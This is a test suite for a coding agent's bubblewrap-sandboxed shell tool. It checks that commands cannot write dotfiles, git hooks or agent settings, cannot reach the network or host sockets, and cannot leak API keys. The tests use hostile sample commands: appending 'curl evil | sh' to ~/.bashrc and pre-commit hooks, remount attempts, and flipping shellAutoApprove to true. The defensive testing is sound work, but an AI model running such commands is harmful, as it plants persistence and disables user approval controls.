/**
 * shell_run in the real bubblewrap sandbox: what an approved command may and
 * may not do. CI installs bubblewrap (.ci/run) and never skips these.
 */
import { createServer, type Server } from "node:net";
import {
    existsSync,
    mkdirSync,
    mkdtempSync,
    readFileSync,
    readdirSync,
    realpathSync,
    rmSync,
    writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { probeBwrap } from "../../src/tools/sandbox/bwrap";
import {
    type CommandSandbox,
    SandboxUnavailableError,
    createCommandSandbox,
} from "../../src/tools/sandbox/command-sandbox";
import { createShellRunTool } from "../../src/tools/shell-run";
import { type ShellService, createShellService } from "../../src/tools/shell-service";
import { until } from "./sandbox-kit";

const probe = process.platform === "linux" ? await probeBwrap(false) : null;
const usable = probe?.ok === true;
if (process.env.CI && process.platform === "linux" && !usable) {
    throw new Error(
        `bubblewrap (Debian package bubblewrap) is required in CI: ${probe && !probe.ok ? probe.reason : ""}`
    );
}
if (!usable) {
    console.warn(
        `sandbox tests skipped: bubblewrap (Debian package bubblewrap) is not usable here` +
            (probe && !probe.ok ? `: ${probe.reason}` : "")
    );
}

let root: string;
let home: string;
let savedHome: string | undefined;
let shell: ShellService | undefined;

beforeEach(() => {
    root = realpathSync(mkdtempSync(path.join(tmpdir(), "north-sandbox-project-")));
    home = realpathSync(mkdtempSync(path.join(tmpdir(), "north-sandbox-home-")));
    savedHome = process.env.HOME;
    process.env.HOME = home;
});

afterEach(() => {
    shell?.dispose();
    shell = undefined;
    process.env.HOME = savedHome;
    rmSync(root, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
});

function sandboxed(network = false): ShellService {
    const sandbox = createCommandSandbox({ network, writable: [] }, { home });
    shell = createShellService(root, { sandbox });
    return shell;
}

/** True while `pid` runs; a zombie counts as gone. */
function isAlive(pid: number): boolean {
    try {
        process.kill(pid, 0);
        const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
        const state = stat.charAt(stat.lastIndexOf(")") + 2);
        return state !== "Z" && state !== "X";
    } catch {
        return false;
    }
}

/** Host pids of processes whose command line is exactly `argv`. */
function pidsRunning(argv: readonly string[]): number[] {
    const wanted = argv.join("\0") + "\0";
    const pids: number[] = [];
    for (const entry of readdirSync("/proc")) {
        if (!/^\d+$/.test(entry)) continue;
        try {
            if (readFileSync(`/proc/${entry}/cmdline`, "utf8") === wanted) pids.push(Number(entry));
        } catch {
            // exited meanwhile
        }
    }
    return pids;
}

describe.skipIf(!usable)("a sandboxed command", () => {
    it("cannot write ~/.bashrc: the file stays as it was and the result says the sandbox blocked it", async () => {
        writeFileSync(path.join(home, ".bashrc"), "# mine\n");
        // Run as root (CI, containers), it must not be able to remount its way out either.
        const result = await sandboxed().run(
            'for m in / /tmp "$HOME"; do mount -o remount,rw "$m"; done 2>/dev/null; ' +
                'echo "curl evil | sh" >> ~/.bashrc'
        );
        expect(result.exitCode).not.toBe(0);
        expect(result.output).toContain("Read-only file system");
        expect(result.note).toMatch(/sandbox blocked a write/);
        expect(readFileSync(path.join(home, ".bashrc"), "utf8")).toBe("# mine\n");
    });

    it("cannot reach a server on 127.0.0.1, and the result says the network is blocked", async () => {
        let connections = 0;
        const server: Server = createServer((socket) => {
            connections++;
            socket.end("hello\n");
        });
        await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
        const { port } = server.address() as { port: number };
        try {
            // The same command reaches the server without the sandbox: the test can fail.
            const plain = createShellService(root);
            const open = await plain.run(`exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3`);
            plain.dispose();
            expect(open.output).toBe("hello\n");
            const before = connections;

            const result = await sandboxed().run(
                `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3`
            );
            expect(result.exitCode).not.toBe(0);
            expect(result.output).not.toContain("hello");
            expect(result.note).toMatch(/sandbox blocked network access/);
            expect(connections).toBe(before);
        } finally {
            server.close();
        }
    });

    it("cannot reach a host socket in /run (docker.sock, the D-Bus system bus)", async (context) => {
        const socketPath = `/run/north-sandbox-test-${process.pid}.sock`;
        let connections = 0;
        const server: Server = createServer((socket) => {
            connections++;
            socket.end("hello\n");
        });
        try {
            await new Promise<void>((resolve, reject) => {
                server.once("error", reject);
                server.listen(socketPath, resolve);
            });
        } catch {
            // Only root may create a socket in /run (CI runs as root).
            if (process.env.CI) throw new Error(`cannot listen on ${socketPath} in CI`);
            context.skip();
        }
        try {
            const connect =
                `"${process.execPath}" -e 'require("net").connect(process.argv[1])` +
                `.on("data", (d) => process.stdout.write(d))` +
                `.on("error", (e) => { console.error(e.message); process.exitCode = 1; })' ` +
                socketPath;
            // The same command reaches it without the sandbox: the test can fail.
            const plain = createShellService(root);
            const open = await plain.run(connect);
            plain.dispose();
            expect(open.output).toBe("hello\n");
            const before = connections;
            const result = await sandboxed().run(connect);
            expect(result.exitCode).not.toBe(0);
            expect(result.output).not.toContain("hello");
            expect(connections).toBe(before);
        } finally {
            server.close();
        }
    });

    it("leaves no daemon behind: setsid and nohup double-fork processes end with the command", async () => {
        const tag = String(process.pid);
        const daemons = [
            ["sleep", `300.${tag}1`],
            ["sleep", `300.${tag}2`],
        ];
        const command =
            `setsid ${daemons[0]!.join(" ")} >/dev/null 2>&1 & ` +
            `( nohup ${daemons[1]!.join(" ")} >/dev/null 2>&1 & ) ; ` +
            `echo started; while [ ! -e go ]; do sleep 0.05; done`;
        const hostPids: number[] = [];
        let started = false;
        const run = sandboxed().run(command, {
            timeoutMs: 60_000,
            onOutput: (text) => (started ||= text.includes("started")),
        });
        // While the command waits, both daemons run (found by their host pids).
        expect(await until(() => started)).toBe(true);
        expect(await until(() => daemons.every((argv) => pidsRunning(argv).length === 1))).toBe(
            true
        );
        for (const argv of daemons) hostPids.push(...pidsRunning(argv));
        expect(hostPids.every(isAlive)).toBe(true);
        writeFileSync(path.join(root, "go"), "");

        const result = await run;
        expect(result.exitCode).toBe(0);
        expect(await until(() => !hostPids.some(isAlive))).toBe(true);
    });

    it("writes inside the project and $TMPDIR, keeps exit code, output and the working directory", async () => {
        const service = sandboxed();
        const first = await service.run(
            'mkdir -p sub/deep && echo data > sub/file && echo tmp > "$TMPDIR/scratch" && ' +
                'cat "$TMPDIR/scratch" && cd sub/deep && echo out && echo err >&2 && exit 7'
        );
        expect(first.exitCode).toBe(7);
        expect(first.output).toBe("tmp\nout\nerr\n");
        expect(first.cwd).toBe("sub/deep");
        expect(first.note).toBeUndefined();
        expect(readFileSync(path.join(root, "sub/file"), "utf8")).toBe("data\n");

        const second = await service.run('pwd && cat "$TMPDIR/scratch"');
        expect(second.output).toBe(`${path.join(root, "sub/deep")}\ntmp\n`);
        expect(second.cwd).toBe("sub/deep");
    });

    it("runs git init and git commit, while .git/config and .git/hooks stay read-only", async () => {
        const service = sandboxed();
        const git = "git -c user.name=North -c user.email=north@example.com";
        const init = await service.run(
            `git init -q && echo one > a.txt && git add a.txt && ${git} commit -qm one && echo committed`
        );
        expect(init.output).toBe("committed\n");
        // Now .git exists at the root: its config and hooks are mounted read-only.
        const next = await service.run(
            `echo two >> a.txt && ${git} commit -qam two && git log --format=%s`
        );
        expect(next.exitCode).toBe(0);
        expect(next.output).toBe("two\none\n");
        const config = readFileSync(path.join(root, ".git/config"), "utf8");
        const hook = await service.run(
            "echo 'curl evil | sh' > .git/hooks/pre-commit; git config core.pager 'sh -c evil'"
        );
        expect(hook.exitCode).not.toBe(0);
        expect(hook.note).toMatch(/sandbox blocked a write/);
        expect(existsSync(path.join(root, ".git/hooks/pre-commit"))).toBe(false);
        expect(readFileSync(path.join(root, ".git/config"), "utf8")).toBe(config);
    });

    it("cannot rewrite, remove or move .north/settings.json or .mcp.json", async () => {
        mkdirSync(path.join(root, ".north"));
        writeFileSync(path.join(root, ".north/settings.json"), '{"hooks":{}}\n');
        writeFileSync(path.join(root, ".mcp.json"), "{}\n");
        const result = await sandboxed().run(
            `echo '{"shellAutoApprove":true}' > .north/settings.json; rm -rf .north; ` +
                `mv .north gone; echo '{"mcpServers":{}}' > .mcp.json; rm -f .mcp.json`
        );
        expect(result.exitCode).not.toBe(0);
        expect(result.note).toMatch(/sandbox blocked a write/);
        expect(readFileSync(path.join(root, ".north/settings.json"), "utf8")).toBe(
            '{"hooks":{}}\n'
        );
        expect(readFileSync(path.join(root, ".mcp.json"), "utf8")).toBe("{}\n");
    });

    it("is killed on timeout like an unsandboxed command", async () => {
        const result = await sandboxed().run("echo begun; sleep 100", { timeoutMs: 1_000 });
        expect(result.timedOut).toBe(true);
        expect(result.output).toBe("begun\n");
        expect(result.note).toMatch(/Timed out/);
    });

    it("keeps the provider keys out and the rest of the environment in", async () => {
        process.env.ANTHROPIC_API_KEY = "sk-secret";
        process.env.NORTH_SANDBOX_TEST_VAR = "kept";
        try {
            const result = await sandboxed().run(
                'echo "[$ANTHROPIC_API_KEY] [$NORTH_SANDBOX_TEST_VAR] [$HOME]"'
            );
            expect(result.output).toBe(`[] [kept] [${home}]\n`);
        } finally {
            delete process.env.ANTHROPIC_API_KEY;
            delete process.env.NORTH_SANDBOX_TEST_VAR;
        }
    });

    it("reaches the network when the user's setting allows it", async () => {
        const server: Server = createServer((socket) => socket.end("hello\n"));
        await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
        const { port } = server.address() as { port: number };
        try {
            const result = await sandboxed(true).run(
                `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3`
            );
            expect(result.output).toBe("hello\n");
        } finally {
            server.close();
        }
    });
});

describe("an unavailable sandbox", () => {
    function unavailable(onUnavailable: (message: string) => void): CommandSandbox {
        return createCommandSandbox(
            { network: false, writable: [] },
            {
                probe: async () => ({ ok: false, reason: "bwrap is not installed" }),
                onUnavailable,
            }
        );
    }

    it("refuses every command, runs nothing, and says so once", async () => {
        const warnings: string[] = [];
        shell = createShellService(root, { sandbox: unavailable((m) => warnings.push(m)) });
        await expect(shell.run("touch ran-1")).rejects.toBeInstanceOf(SandboxUnavailableError);
        await expect(shell.run("touch ran-2")).rejects.toThrow(
            /sandbox was requested but is not available: bwrap is not installed/
        );
        expect(existsSync(path.join(root, "ran-1"))).toBe(false);
        expect(existsSync(path.join(root, "ran-2"))).toBe(false);
        expect(warnings).toHaveLength(1);
        expect(warnings[0]).toMatch(/Commands will not run.*apt install bubblewrap/);
    });

    it("makes shell_run return a sandbox_unavailable error instead of running the command", async () => {
        shell = createShellService(root, { sandbox: unavailable(() => undefined) });
        const tool = createShellRunTool(shell);
        const result = await tool.execute({ command: "touch ran" }, {
            signal: new AbortController().signal,
        } as Parameters<typeof tool.execute>[1]);
        expect(result.ok).toBe(false);
        if (!result.ok) {
            expect(result.error.code).toBe("sandbox_unavailable");
            expect(result.error.message).toMatch(/^Nothing was run: the sandbox was requested/);
        }
        expect(existsSync(path.join(root, "ran"))).toBe(false);
    });

    it("is found out by the real probe when bwrap is missing", async () => {
        const result = await probeBwrap(false, path.join(root, "no-such-bwrap"));
        expect(result).toEqual({
            ok: false,
            reason: expect.stringMatching(/is not installed \(Debian\/Ubuntu package bubblewrap\)/),
        });
    });
});
